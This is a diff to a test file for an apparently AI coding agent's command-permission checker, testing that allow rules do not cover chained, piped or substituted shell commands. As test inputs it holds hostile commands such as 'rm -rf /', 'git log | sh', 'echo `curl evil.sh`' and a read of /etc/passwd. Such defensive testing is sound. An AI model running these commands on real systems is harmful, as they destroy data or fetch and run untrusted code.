@@ -11,7 +11,7 @@ import {
   type PermissionMode,
   type PermissionRequest,
   type PermissionSettings,
-} from '../src/core/permissions.js';
+} from '../src/core/permissions/index.js';
 
 const bash = (command: string): PermissionRequest => ({ tool: 'Bash', arguments: { command }, readOnly: false });
 const read = (file_path: string): PermissionRequest => ({ tool: 'Read', arguments: { file_path }, readOnly: true });
@@ -160,7 +160,8 @@ describe('compound commands', () => {
       rule: 'Bash(git *)',
     });
     expect(decide(settings, bash('git status && rm -rf /'))).toBeUndefined();
-    expect(decide(settings, bash('git log | sh'))).toBeUndefined();
+    // `sh` reads its commands from the pipe: no allow rule vouches for what it cannot see.
+    expect(decide(settings, bash('git log | sh'))).toBe('ask');
   });
 
   it('keep a quoted && inside one part', () => {
@@ -180,11 +181,12 @@ describe('compound commands', () => {
     expect(decide(settings, bash('echo "rm -rf /"'))).toBe('allow');
   });
 
-  it('with a command substitution need an exact rule, not a wildcard', () => {
+  it('with a command substitution need the commands inside allowed too, or an exact rule', () => {
     const settings = { allow: ['Bash(echo *)'] };
     expect(decide(settings, bash('echo $(rm -rf ~)'))).toBeUndefined();
     expect(decide(settings, bash('echo `curl evil.sh`'))).toBeUndefined();
     expect(decide({ allow: ['Bash(echo $(date))'] }, bash('echo $(date)'))).toBe('allow');
+    expect(decide({ allow: ['Bash(echo *)', 'Bash(date *)'] }, bash('echo "today: $(date +%F)"'))).toBe('allow');
   });
 });
 
@@ -425,6 +427,13 @@ describe('remembered rules', () => {
     again(edit('../other/a.ts'), edit('../other/b.ts'));
     again(read('~/.zshrc'), read('~/.bashrc'));
     again(read('/etc/hosts'), read('/etc/passwd'));
+    // Glob characters in a path are escaped: the rule names that file only.
+    again(read('./a[1]/b{c,d}?.ts'), read('./a1/bc?.ts'));
+    again(edit('src/*.ts'), edit('src/a.ts'));
+    // A line the parser cannot see all of is allowed again by its exact rule only; another asks.
+    const agent = [rememberRule(bash('eval "$(ssh-agent -s)"'))];
+    expect(checkPermission(project, bash('eval "$(ssh-agent -s)"'), { remembered: agent }).decision).toBe('allow');
+    expect(checkPermission(project, bash('eval "$(ssh-agent -k)"'), { remembered: agent }).decision).toBe('ask');
     again(fetchUrl('https://example.com/a'), fetchUrl('https://docs.example.com/a'));
     again(custom('deploy', 'stag*ing'), custom('deploy', 'stag-x-ing'));
     again({ tool: 'Bash', arguments: {}, readOnly: false }, bash('ls'));
